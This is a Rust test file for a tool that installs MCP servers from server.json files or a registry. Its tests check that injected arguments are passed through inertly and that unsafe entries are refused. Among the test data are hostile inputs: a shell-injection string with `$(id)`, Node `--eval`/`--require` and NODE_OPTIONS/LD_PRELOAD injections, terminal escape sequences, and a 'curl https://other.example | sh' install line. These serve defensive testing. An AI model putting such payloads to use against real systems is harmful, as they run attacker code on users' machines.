//! `add` takes a server.json, from a file or from the MCP registry: it becomes an entry that runs;
//! one that wants more than that is refused, and nothing is written or asked for.

use std::net::SocketAddr;
use std::process::Command;

use serde_json::{Value, json};

use crate::support::{Client, Fault, Home, Package, Ran, Registry};

const NAME: &str = "io.github.ada/tides";
const PATH: &str = "v0.1/servers/io.github.ada/tides/versions/latest";
/// What the server got: its own arguments, Node's, two variables, and of a secret the length.
const SEEN: &str = "JSON.stringify([process.argv.slice(2), process.execArgv, \
    process.env.UNITS || null, process.env.NODE_OPTIONS || null, (process.env.API_KEY || '').length])";

/// What pinfold itself tells Node, and nobody else anything.
const OURS: &str = "--no-global-search-paths";

fn package(more: &Value) -> Value {
    let mut package = json!({"registryType": "npm", "identifier": "tides", "version": "1.0.0",
        "runtimeHint": "npx", "transport": {"type": "stdio"}});
    let more = more.as_object().unwrap().clone();
    package.as_object_mut().unwrap().extend(more);
    package
}

fn document(more: &Value) -> Value {
    json!({
        "$schema": "https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json",
        "name": NAME, "description": "When the water comes", "version": "1.0.0",
        "packages": [package(more)],
    })
}

fn answer(document: &Value) -> Vec<u8> {
    json!({"server": document, "_meta": {"io.modelcontextprotocol.registry/official":
        {"status": "active", "publishedAt": "2026-01-01T00:00:00Z", "isLatest": true}}})
    .to_string()
    .into_bytes()
}

/// npm's registry and the other one, at one address.
fn world() -> (Home, Registry) {
    let server = Package::speaking("tides", "1.0.0", SEEN);
    (Home::new(), Registry::new([server]))
}

fn add(home: &Home, registry: &Registry, source: &str, more: &[&str]) -> Ran {
    let words = [&["add", "tides", source, "--allow-all"], more].concat();
    Ran::of(
        registry
            .pinfold(home, words)
            .env("PINFOLD_REGISTRY", registry.url()),
    )
}

fn from_registry(home: &Home, registry: &Registry, more: &[&str]) -> Ran {
    add(home, registry, &format!("registry:{NAME}"), more)
}

fn seen(home: &Home) -> Value {
    let mut client = Client::start(home.pinfold(["run", "tides"]).env("API_KEY", "open sesame"));
    client.initialize();
    serde_json::from_str(&client.call_text("say", json!({}))).unwrap()
}

fn inputs() -> Value {
    json!({
        "runtimeArguments": [{"type": "named", "name": "-y"}],
        "packageArguments": [
            {"type": "named", "name": "--mode", "default": "calm"},
            {"type": "positional", "valueHint": "harbour", "isRequired": true, "isRepeated": true},
        ],
        "environmentVariables": [
            {"name": "UNITS", "default": "metres"},
            {"name": "API_KEY", "isRequired": true, "isSecret": true},
        ],
    })
}

#[test]
fn a_name_of_the_registry_becomes_a_server_that_runs() {
    let (home, registry) = world();
    registry.serve(PATH, &answer(&document(&inputs())));
    // What is missing is said with the option that gives it, before anything is got.
    let ran = from_registry(&home, &registry, &[]);
    assert_eq!(ran.code, Some(2), "{ran:#?}");
    assert!(ran.stderr.contains("--set harbour=VALUE"), "{ran:#?}");
    assert!(!home.manifest().exists() && !home.lock().exists());
    assert_eq!(registry.count("tides-1.0.0.tgz"), 0);

    let set = ["--set", "harbour=Kiel", "--set", "harbour=New York"];
    let ran = from_registry(&home, &registry, &[&set[..], &["--", "last"]].concat());
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    for words in [
        "io.github.ada/tides 1.0.0",
        "When the water comes",
        "npm:tides@1.0.0",
        "`--mode` `calm` `Kiel` `New York`",
        "UNITS = `metres`",
        "API_KEY, as the client passes API_KEY",
    ] {
        assert!(ran.stderr.contains(words), "no `{words}` in {ran:#?}");
    }
    let manifest = std::fs::read_to_string(home.manifest()).unwrap();
    assert!(
        manifest.contains("source = \"npm:tides@1.0.0\""),
        "{manifest}"
    );
    assert!(
        manifest.contains("API_KEY = { from = \"API_KEY\" }"),
        "{manifest}"
    );
    assert_eq!(
        seen(&home),
        json!([
            ["--mode", "calm", "Kiel", "New York", "last"],
            [OURS],
            "metres",
            null,
            11
        ])
    );
    home.succeed(["verify"]);
    // The public names are asked for by nobody.
    assert_eq!(
        registry.count("v0.1/servers/io.github.ada%2Ftides/versions/latest"),
        2
    );
}

#[test]
fn a_file_says_the_same() {
    let (home, registry) = world();
    let file = home.path().join("server.json");
    std::fs::write(&file, document(&inputs()).to_string()).unwrap();
    let source = format!("server.json:{}", file.display());
    let more = ["--set", "harbour=Kiel", "--env", "UNITS=feet"];
    let ran = add(&home, &registry, &source, &more);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    assert_eq!(
        seen(&home),
        json!([["--mode", "calm", "Kiel"], [OURS], "feet", null, 11])
    );
    assert_eq!(registry.count("v0.1"), 0);
    let ran = add(&Home::new(), &registry, "server.json:/nonexistent", &[]);
    assert_eq!(ran.code, Some(4), "{ran:#?}");
    let ran = add(&Home::new(), &registry, "npm:tides", &["--set", "a=b"]);
    assert_eq!(ran.code, Some(2), "{ran:#?}");
}

#[test]
fn arguments_reach_the_server_and_never_what_runs_it() {
    let (home, registry) = world();
    let code = "process.exit(7)";
    // The control: these words before a script are code.
    let bare = Command::new("node").args(["--eval", code]).status();
    assert_eq!(bare.unwrap().code(), Some(7));
    let arguments = json!({"packageArguments": [
        {"type": "named", "name": "--eval", "value": code},
        {"type": "positional", "value": "--"},
        {"type": "positional", "value": "; touch /tmp/never $(id)"},
        {"type": "named", "name": "--require", "value": "/tmp/never.js"},
    ]});
    registry.serve(PATH, &answer(&document(&arguments)));
    let ran = from_registry(&home, &registry, &[]);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    let expected = [
        "--eval",
        code,
        "--",
        "; touch /tmp/never $(id)",
        "--require",
        "/tmp/never.js",
    ];
    assert_eq!(seen(&home)[0], json!(expected));
    assert_eq!(seen(&home)[1], json!([OURS]));
}

#[test]
fn what_wants_more_is_refused_by_name_and_nothing_is_got() {
    let (_, registry) = world();
    let named = |name: &str| {
        let mut other = document(&json!({}));
        other["name"] = json!(name);
        other
    };
    let mut remote = document(&json!({}));
    remote["packages"] = json!([]);
    remote["remotes"] = json!([{"type": "sse", "url": "https://other.example/sse"}]);
    let variable =
        |name: &str| document(&json!({"environmentVariables": [{"name": name, "value": "x"}]}));
    let plain = |key: &str, value: Value| document(&json!({ key: value }));
    for (document, words) in [
        (variable("NODE_OPTIONS"), "NODE_OPTIONS can't be set"),
        (variable("LD_PRELOAD"), "LD_PRELOAD can't be set"),
        (
            named("io.github.eve/tides"),
            "answered about `io.github.eve/tides@1.0.0`",
        ),
        (remote, "over the network"),
        (
            plain("identifier", json!("tides\u{1b}]0;x\u{7}")),
            "identifier",
        ),
        (
            plain("identifier", json!("https://other.example/x.tgz")),
            "identifier",
        ),
        (plain("version", json!("latest")), "exact version"),
        (
            plain("registryBaseUrl", json!("https://other.example")),
            "registryBaseUrl",
        ),
        (
            plain(
                "runtimeArguments",
                json!([{"type": "positional", "value": "--call=id"}]),
            ),
            "`--call=id`",
        ),
        (plain("registryType", json!("oci")), "oci"),
        (
            plain(
                "transport",
                json!({"type": "sse", "url": "https://other.example"}),
            ),
            "sse",
        ),
        (
            plain("install", json!("curl https://other.example | sh")),
            "unknown field",
        ),
        (plain("packageArguments", json!("--x")), "packages[0]"),
    ] {
        let home = Home::new();
        registry.serve(PATH, &answer(&document));
        let ran = from_registry(&home, &registry, &[]);
        assert_eq!(ran.code, Some(2), "{words}: {ran:#?}");
        assert!(ran.stderr.contains(words), "no `{words}` in {ran:#?}");
        assert!(!ran.stderr.contains(['\u{1b}', '\u{7}']), "{ran:#?}");
        assert!(!home.manifest().exists() && !home.lock().exists());
    }
    assert_eq!(registry.count("tides-1.0.0.tgz"), 0);
    // The control.
    let home = Home::new();
    registry.serve(PATH, &answer(&document(&json!({}))));
    assert_eq!(from_registry(&home, &registry, &[]).code, Some(0));
    assert_eq!(seen(&home)[0], json!([]));
}

#[test]
fn the_digest_that_is_said_is_held_against_the_file() {
    let (home, registry) = world();
    let wrong = document(&json!({"fileSha256": "0".repeat(64)}));
    registry.serve(PATH, &answer(&wrong));
    let ran = from_registry(&home, &registry, &[]);
    assert_eq!(ran.code, Some(1), "{ran:#?}");
    assert!(
        ran.stderr.contains("says that tides has the digest"),
        "{ran:#?}"
    );
    assert!(!home.manifest().exists() && !home.lock().exists());
    let right = ran.stderr.split("and it has sha256:").nth(1).unwrap();
    let right = right.split(';').next().unwrap();
    registry.serve(PATH, &answer(&document(&json!({"fileSha256": right}))));
    let ran = from_registry(&home, &registry, &[]);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
}

#[test]
fn a_registry_that_fails_or_lies_is_not_believed() {
    let (home, registry) = world();
    registry.serve(PATH, &answer(&document(&json!({}))));
    let outside: SocketAddr = "203.0.113.9:80".parse().unwrap();
    for (fault, code, words) in [
        (Fault::Huge(8), 4, "larger than"),
        (Fault::Garbage, 2, "can't be read"),
        (Fault::Status(404), 4, "knows no"),
        (Fault::Status(403), 4, "403"),
        (Fault::Redirect(outside), 4, "plain http"),
    ] {
        registry.fail("v0.1", fault, usize::MAX);
        let ran = from_registry(&home, &registry, &[]);
        assert_eq!(ran.code, Some(code), "{words}: {ran:#?}");
        assert!(ran.stderr.contains(words), "no `{words}` in {ran:#?}");
        assert!(!home.manifest().exists());
        registry.mend();
    }
    let asked = |address: &str, source: &str| {
        let words = ["add", "tides", source, "--allow-all"];
        let mut command = registry.pinfold(&home, words);
        Ran::of(command.env("PINFOLD_REGISTRY", address))
    };
    let name = format!("registry:{NAME}");
    for (address, source, words) in [
        ("http://registry.example", name.as_str(), "not https"),
        (
            "https://u:secret@registry.example",
            name.as_str(),
            "password",
        ),
        ("file:///etc", name.as_str(), "not https"),
        (registry.url().as_str(), "registry:../../x", "not the name"),
        (registry.url().as_str(), "registry:tides", "not the name"),
    ] {
        let ran = asked(address, source);
        assert_eq!(ran.code, Some(2), "{ran:#?}");
        assert!(
            ran.stderr.contains(words) && !ran.stderr.contains("secret"),
            "{ran:#?}"
        );
    }
    // The control.
    assert_eq!(from_registry(&home, &registry, &[]).code, Some(0));
}
